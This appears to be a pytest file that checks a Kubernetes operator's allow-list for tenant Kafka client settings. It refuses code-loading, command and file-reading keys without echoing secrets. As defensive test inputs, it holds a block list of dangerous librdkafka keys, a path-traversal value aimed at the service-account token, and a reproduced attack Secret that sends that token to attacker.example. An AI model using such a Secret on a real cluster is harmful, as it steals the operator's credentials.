"""The settings of a tenant's Kafka Secret that the operator and `kubectl reprise` run in their own process
(issue 26, C1 and M6): each refused family is refused before a client is built, with the key named and never
the value; a `ssl.*.location` of the mounted folder becomes its inline twin; OAUTHBEARER only as OIDC
client_credentials against a listed endpoint; the client prefixes apply as everywhere."""

from __future__ import annotations

import pytest

from replay_worker.connection.setting_allow_list import (
    MOUNTED_FOLDER,
    RefusedSetting,
    client_refusal,
    operator_settings,
)
from replay_worker.connection.setting_scopes import settings_for

#: A value no message may carry (it stands for a password, a token or a path the tenant chose).
VALUE = "hunter2-SENTINEL-VALUE"
ENDPOINT = "https://idp.example/oauth2/token"

OIDC = {
    "security.protocol": "SASL_SSL",
    "sasl.mechanisms": "OAUTHBEARER",
    "sasl.oauthbearer.method": "oidc",
    "sasl.oauthbearer.token.endpoint.url": ENDPOINT,
    "sasl.oauthbearer.client.id": "team-a",
    "sasl.oauthbearer.client.secret": VALUE,
    "sasl.oauthbearer.scope": "kafka",
}


def refused(secret: dict, endpoints: tuple[str, ...] = (ENDPOINT,)) -> RefusedSetting:
    with pytest.raises(RefusedSetting) as caught:
        operator_settings(secret, endpoints)
    assert VALUE not in str(caught.value), "a refusal must never carry the value"
    return caught.value


@pytest.mark.parametrize(
    "key",
    [
        # every *.location, *.file, *.url outside the rules below
        "ssl.crl.location",
        "ssl.keystore.location",
        "ssl.engine.location",
        "https.ca.location",
        "sasl.oauthbearer.assertion.file",
        "sasl.oauthbearer.assertion.private.key.file",
        "sasl.oauthbearer.assertion.jwt.template.file",
        "offset.store.path",
        # code, commands, engines
        "plugin.library.paths",
        "ssl.engine.id",
        "ssl.providers",
        "sasl.kerberos.kinit.cmd",
        "sasl.kerberos.keytab",
        # OAUTHBEARER other than client_credentials
        "sasl.oauthbearer.assertion.claim.sub",
        "sasl.oauthbearer.assertion.private.key.pem",
        "sasl.oauthbearer.metadata.authentication.type",
        "sasl.oauthbearer.config",
        "enable.sasl.oauthbearer.unsecure.jwt",
        "https.ca.pem",
        # logs, telemetry, process-wide
        "debug",
        "log_level",
        "log.queue",
        "log.connection.close",
        "statistics.interval.ms",
        "enable.random.seed",
        "internal.termination.signal",
        # callbacks and internals, and an alias of the spec's bootstrap address
        "error_cb",
        "interceptors",
        "metadata.broker.list",
        # not a librdkafka property at all (a Java client's setting, a typo, a file no location names)
        "sasl.jaas.config",
        "ca.crt",
        "sasl.usrname",
    ],
)
def test_each_refused_family_is_refused_naming_the_key_only(key):
    refusal = refused({"security.protocol": "SSL", key: VALUE})
    assert refusal.key == key and refusal.reason == "ForbiddenKafkaSetting"
    assert str(refusal).startswith(f"key {key} ")


@pytest.mark.parametrize("prefix", ["consumer.", "producer.", "admin."])
def test_a_prefix_does_not_smuggle_a_refused_key(prefix):
    refusal = refused({f"{prefix}debug": VALUE})
    assert refusal.key == f"{prefix}debug"
    assert (
        refused({f"{prefix}sasl.oauthbearer.assertion.file": VALUE}).key == f"{prefix}sasl.oauthbearer.assertion.file"
    )


def test_the_allowed_settings_pass_with_their_prefixes_and_scope_as_everywhere():
    secret = {
        "security.protocol": "SASL_SSL",
        "sasl.mechanism": "SCRAM-SHA-512",
        "sasl.username": "team-a",
        "sasl.password": VALUE,
        "ssl.ca.pem": "-----BEGIN CERTIFICATE-----",
        "client.id": "team-a",
        "socket.keepalive.enable": "true",
        "consumer.session.timeout.ms": "45000",
        "producer.linger.ms": "5",
        "admin.socket.timeout.ms": "9000",
        "bootstrap.servers": "elsewhere:9092",
    }
    allowed = operator_settings(secret)
    # bootstrap.servers is dropped (the spec's wins); everything else is kept as given, prefixes included.
    assert allowed == {k: v for k, v in secret.items() if k != "bootstrap.servers"}
    assert settings_for("consumer", allowed)["session.timeout.ms"] == "45000"
    assert "linger.ms" not in settings_for("consumer", allowed)
    assert settings_for("admin", allowed)["socket.timeout.ms"] == "9000"


def test_a_location_in_the_mounted_folder_is_read_from_the_same_secret():
    secret = {
        "security.protocol": "SSL",
        "ssl.ca.location": f"{MOUNTED_FOLDER}/ca.crt",
        "ca.crt": "CA PEM",
        "consumer.ssl.certificate.location": f"{MOUNTED_FOLDER}/tls.crt",
        "consumer.ssl.key.location": f"{MOUNTED_FOLDER}/tls.key",
        "tls.crt": "CERT PEM",
        "tls.key": "KEY PEM",
        "ssl.key.password": VALUE,
    }
    assert operator_settings(secret) == {
        "security.protocol": "SSL",
        "ssl.ca.pem": "CA PEM",
        "consumer.ssl.certificate.pem": "CERT PEM",
        "consumer.ssl.key.pem": "KEY PEM",
        "ssl.key.password": VALUE,
    }


@pytest.mark.parametrize(
    "location",
    [
        "/var/run/secrets/kubernetes.io/serviceaccount/token",  # the operator's own token
        f"{MOUNTED_FOLDER}/missing",  # no such key in the Secret
        f"{MOUNTED_FOLDER}/../../../var/run/secrets/kubernetes.io/serviceaccount/token",
        f"{MOUNTED_FOLDER}/",
        f"{MOUNTED_FOLDER}/..data",
        "probe",
    ],
)
def test_a_location_elsewhere_is_refused_without_echoing_it(location):
    refusal = refused({"ssl.ca.location": location, "missing.pem": VALUE})
    assert refusal.key == "ssl.ca.location" and refusal.reason == "ForbiddenKafkaSetting"
    assert location not in str(refusal) or location == f"{MOUNTED_FOLDER}/"
    assert "ssl.ca.pem" in str(refusal), "the message says how to fix it"


def test_a_location_and_its_inline_twin_together_are_refused():
    refusal = refused({"ssl.ca.location": f"{MOUNTED_FOLDER}/ca.crt", "ca.crt": VALUE, "ssl.ca.pem": VALUE})
    assert refusal.key == "ssl.ca.location" and "ssl.ca.pem" in str(refusal)


def test_oauthbearer_is_allowed_only_as_client_credentials_against_a_listed_endpoint():
    assert operator_settings(OIDC, (ENDPOINT,)) == OIDC
    assert operator_settings({**OIDC, "sasl.oauthbearer.grant.type": "client_credentials"}, (ENDPOINT,))

    assert refused(OIDC, endpoints=()).key == "sasl.oauthbearer.token.endpoint.url"
    other = refused({**OIDC, "sasl.oauthbearer.token.endpoint.url": f"http://127.0.0.1:1/{VALUE}"})
    assert other.key == "sasl.oauthbearer.token.endpoint.url" and "kafka.oauthTokenEndpoints" in str(other)
    jwt = refused({**OIDC, "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer"})
    assert jwt.key == "sasl.oauthbearer.grant.type"
    assert refused({**OIDC, "sasl.oauthbearer.method": "default"}).key == "sasl.oauthbearer.method"
    no_method = {k: v for k, v in OIDC.items() if k != "sasl.oauthbearer.method"}
    assert refused(no_method).key == "sasl.oauthbearer.method"
    no_endpoint = {k: v for k, v in OIDC.items() if k != "sasl.oauthbearer.token.endpoint.url"}
    assert refused(no_endpoint).key == "sasl.oauthbearer.token.endpoint.url"


def test_oauthbearer_for_one_client_type_only_is_held_to_the_same_rule():
    secret = {"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN", "admin.sasl.mechanism": "OAUTHBEARER"}
    assert refused(secret).key == "sasl.oauthbearer.method"  # absent, so librdkafka's default: not oidc


def test_the_security_review_appendix_a1_secret_is_refused():
    """The attack of the review (C1): OIDC jwt-bearer with the operator's token as the assertion."""
    hostile = {
        "security.protocol": "SASL_SSL",
        "sasl.mechanisms": "OAUTHBEARER",
        "sasl.oauthbearer.method": "oidc",
        "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
        "sasl.oauthbearer.assertion.file": "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "sasl.oauthbearer.token.endpoint.url": "https://attacker.example/t",
        "sasl.oauthbearer.client.id": "x",
    }
    refusal = refused(dict(sorted(hostile.items())))  # the API server returns a Secret's keys sorted
    assert refusal.key == "sasl.oauthbearer.assertion.file"
    assert "attacker.example" not in str(refusal) and "/var/run" not in str(refusal)


@pytest.mark.parametrize("mechanism", ["GSSAPI", "plain", VALUE])
def test_sasl_mechanisms_are_plain_scram_or_oauthbearer(mechanism):
    refusal = refused({"security.protocol": "SASL_SSL", "sasl.mechanism": mechanism})
    assert refusal.key == "sasl.mechanism" and mechanism not in str(refusal)


def test_a_sasl_protocol_names_its_mechanism():
    # librdkafka's default mechanism is GSSAPI, which runs `kinit`.
    assert refused({"security.protocol": "sasl_plaintext", "sasl.username": "u"}).key == "sasl.mechanism"


@pytest.mark.parametrize(
    "key", ["security.protocol", "ssl.endpoint.identification.algorithm", "consumer.isolation.level", "partitioner"]
)
def test_a_value_librdkafka_would_echo_is_refused_here_without_it(key):
    refusal = refused({key: VALUE})
    assert refusal.key == key and "must be one of" in str(refusal)


def test_enumerated_values_are_compared_as_librdkafka_does():
    assert operator_settings({"security.protocol": "SASL_SSL", "sasl.mechanism": "PLAIN"})
    assert operator_settings({"consumer.partition.assignment.strategy": "range,roundrobin"})
    assert refused({"partition.assignment.strategy": f"range,{VALUE}"}).reason == "InvalidKafkaSetting"


def test_a_client_refusal_names_the_key_and_never_the_value():
    quoted = f'KafkaError{{code=_INVALID_ARG,val=-186,str="Invalid value "{VALUE}" for configuration property "security.protocol""}}'
    assert client_refusal(quoted) == "the Kafka client refused the value of security.protocol (not shown)"
    unsupported = f'KafkaError{{str="Failed to create consumer: Unsupported partition.assignment.strategy: {VALUE}"}}'
    assert VALUE not in (client_refusal(unsupported) or "")
    assert "partition.assignment.strategy" in (client_refusal(unsupported) or "")
    anonymous = f"Failed to create admin client: {VALUE}"
    assert client_refusal(anonymous) is not None and VALUE not in client_refusal(anonymous)
    assert client_refusal("connection refused by broker") is None


def test_the_mounted_folder_is_where_the_pods_mount_the_secret():
    from reprise_operator.rules.workloads import KAFKA_CONFIG_DIR

    assert MOUNTED_FOLDER == KAFKA_CONFIG_DIR
